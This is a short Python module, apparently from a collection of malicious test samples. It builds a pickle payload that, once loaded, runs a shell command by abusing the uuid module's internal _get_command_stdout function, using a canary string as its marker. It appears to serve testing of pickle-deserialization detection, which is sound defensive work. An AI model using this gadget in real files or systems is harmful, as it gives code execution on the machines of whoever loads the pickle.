"""Uuid runs a program to find the network address."""

from __future__ import annotations

from malicious_samples.recipes import pickled_call, shell


def build(canary: str) -> bytes:
    return pickled_call("uuid", "_get_command_stdout", "sh", "-c", shell(canary))
